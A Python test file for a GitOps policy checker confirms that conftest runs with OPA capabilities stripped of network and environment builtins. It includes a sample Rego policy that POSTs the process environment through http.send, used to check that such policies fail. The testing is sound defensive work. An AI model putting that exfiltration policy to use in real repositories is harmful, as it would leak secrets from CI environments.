"""conftest (real OPA) runs with capabilities that leave out the network and the environment
(issue 21, policies from the repository): `http.send`, `net.lookup_ip_addr` and `opa.runtime`
(whose `env` is conftest's environment) are not in checks/engines/opa/capabilities.json, which
is OPA's own capabilities file for v1.20.2 (tests/data/opa-capabilities, SOURCES.tsv there) less
those three, and conftest is always given it with `--capabilities` (conftest has the flag since
v0.32.0: internal/commands/test.go and verify.go, loaded by policy.LoadCapabilities ->
ast.LoadCapabilitiesFile). conftest is not installable here: tests/fake_conftest.py refuses to
run without the flag, or with a file that still offers one of the three, and refuses a policy
that calls a builtin the file leaves out, as OPA's compiler does."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from gate_repos import tiny_configs
from helpers import ROOT, run_json

from checks.engines.rego import CAPABILITIES

FAKE = Path(__file__).resolve().parent / "fake_conftest.py"
UPSTREAM = Path(__file__).resolve().parent / "data" / "opa-capabilities" / "v1.20.2.json"
REACHING = {"http.send", "net.lookup_ip_addr", "opa.runtime"}


def _env() -> dict[str, str]:
    return {"GITOPS_CHECKS_CONFTEST": str(FAKE), "CONFTEST_FAKE_MODE": "",
            "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}


def test_shipped_capabilities_are_opas_less_the_network_and_the_environment():
    upstream = json.loads(UPSTREAM.read_text())
    shipped = json.loads(CAPABILITIES.read_text())
    names = [b["name"] for b in shipped["builtins"]]
    assert not REACHING & set(names)
    assert {b["name"] for b in upstream["builtins"]} >= REACHING  # they were there to remove
    # everything else exactly as OPA declares it: declarations, keywords, features
    assert shipped["builtins"] == [b for b in upstream["builtins"] if b["name"] not in REACHING]
    assert {k: v for k, v in shipped.items() if k != "builtins"} == {k: v for k, v in upstream.items()
                                                                     if k != "builtins"}
    assert "net.cidr_contains" in names  # address arithmetic, no lookup: policies keep it


def test_the_package_declares_the_capabilities_file_as_data():
    pyproject = (ROOT / "pyproject.toml").read_text()
    assert '"engines/opa/*.json"' in pyproject
    assert CAPABILITIES.is_relative_to(ROOT / "checks")


def _fake(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, str(FAKE), *args], capture_output=True, text=True, cwd=cwd,
                          timeout=60, check=False)


def test_the_stand_in_refuses_to_run_without_safe_capabilities(tmp_path: Path):
    (tmp_path / "p").mkdir()
    (tmp_path / "p/a.rego").write_text("package a\n\nimport rego.v1\n\ndeny contains 1 if false\n")
    (tmp_path / "in.json").write_text("{}")
    base = ["test", "--output", "json", "--no-fail", "--all-namespaces", "--policy", "p"]
    missing = _fake(*base, "in.json", cwd=tmp_path)
    assert missing.returncode == 2 and "--capabilities not given" in missing.stderr
    unsafe = _fake(*base, "--capabilities", str(UPSTREAM), "in.json", cwd=tmp_path)
    assert unsafe.returncode == 2 and "allows http.send, net.lookup_ip_addr, opa.runtime" in unsafe.stderr
    safe = _fake(*base, "--capabilities", str(CAPABILITIES), "in.json", cwd=tmp_path)
    assert safe.returncode == 0, safe.stderr
    assert json.loads(safe.stdout)[0]["namespace"] == "a"


EXFILTRATE = """package team.leak

import rego.v1

deny contains msg if {
  response := http.send({"method": "POST", "url": "http://127.0.0.1:9/", "body": opa.runtime().env})
  msg := sprintf("sent %v", [response.status_code])
}
"""
HARMLESS = """package team.replicas

import rego.v1

warn contains msg if {
  input.values.replicaCount > 1
  net.cidr_contains("10.0.0.0/8", "10.1.2.3")
  msg := "more than one replica"
}
"""


def test_a_repository_policy_calling_http_send_is_an_engine_error_under_conftest(tmp_path: Path):
    configs = tiny_configs(tmp_path, {".gitops-checks.yaml": "environments: [dev]\npolicies: {paths: [policy]}\n",
                                      "policy/leak.rego": EXFILTRATE}, git=True)
    code, data, proc = run_json("--configs", configs, "--policy-engine", "conftest", tmp=tmp_path, env=_env())
    assert code == 1, proc.stderr
    engine = [f for f in data["findings"] if f["check"] == "policy/engine"]
    assert engine and "undefined function http.send" in engine[0]["message"], data["findings"]
    assert engine[0]["severity"] == "error"


def test_policies_that_stay_inside_still_run_under_conftest(tmp_path: Path):
    configs = tiny_configs(tmp_path, {".gitops-checks.yaml": "environments: [dev]\npolicies: {paths: [policy]}\n",
                                      "policy/replicas.rego": HARMLESS}, git=True)
    code, data, proc = run_json("--configs", configs, "--policy-engine", "conftest", tmp=tmp_path, env=_env())
    assert code == 0, proc.stderr
    assert [f["message"] for f in data["findings"] if f["check"] == "policy/rego"] == [
        "more than one replica [warn] (environments: dev)"]
    assert not [f for f in data["findings"] if f["check"] == "policy/engine"]
